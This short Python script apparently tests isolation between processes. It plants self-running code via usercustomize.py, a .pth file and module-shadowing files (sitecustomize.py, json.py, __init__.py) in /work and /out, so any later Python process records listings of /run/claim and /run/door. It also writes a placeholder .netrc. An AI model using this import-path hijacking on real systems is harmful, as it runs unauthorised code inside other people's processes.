"""Leaves code where Python looks for some, for whatever process comes next."""

from pathlib import Path

CODE = """\
import os, pathlib
for place in ("/out", "/work"):
    try:
        pathlib.Path(place, "caught").write_text(
            str(os.listdir("/run/claim")) + str(os.listdir("/run/door"))
        )
    except OSError:
        pass
"""
HOME = Path("/work")
SITE = HOME / ".local" / "lib" / "python3.11" / "site-packages"

SITE.mkdir(parents=True)
(SITE / "usercustomize.py").write_text(CODE)
(SITE / "ambush.pth").write_text("import usercustomize\n")
for place in (HOME, Path("/out"), Path("/out/hutch")):
    place.mkdir(exist_ok=True)
    for name in ("sitecustomize.py", "json.py", "hutch.py", "__init__.py"):
        (place / name).write_text(CODE)
(HOME / ".netrc").write_text("default login a password b\n")
print("set", flush=True)
